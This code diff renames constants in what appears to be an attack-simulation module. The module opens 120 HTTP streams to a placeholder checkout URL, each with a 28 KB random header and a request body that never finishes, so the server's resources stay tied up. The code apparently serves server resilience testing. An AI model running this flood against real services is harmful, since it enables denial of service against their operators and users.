@@ -14,13 +14,14 @@ use super::flood;
 use crate::siege::context::{ATTACKER, Context};
 
 /// On one connection.
-const STREAMS: usize = 120;
+const HELD_HEAD_STREAMS: usize = 120;
 
 /// Just below what headers may have in all.
-const HEADER: usize = 28 * 1024;
+const HELD_HEADER_BYTES: usize = 28 * 1024;
 
 pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
-    let header: String = (0..HEADER).map(|_| char::from(rand::random_range(b'a'..=b'z'))).collect();
+    let header: String =
+        (0..HELD_HEADER_BYTES).map(|_| char::from(rand::random_range(b'a'..=b'z'))).collect();
     let request = || {
         let first = Ok::<_, Infallible>(Frame::data(Bytes::from_static(b"{")));
         Request::post("http://shop.example/api/storefront/1/checkout")
@@ -29,5 +30,5 @@ pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
             .header("x-held", &header)
             .body(StreamBody::new(stream::iter([first]).chain(stream::pending())))
     };
-    flood(&context, STREAMS, request).await
+    flood(&context, HELD_HEAD_STREAMS, request).await
 }
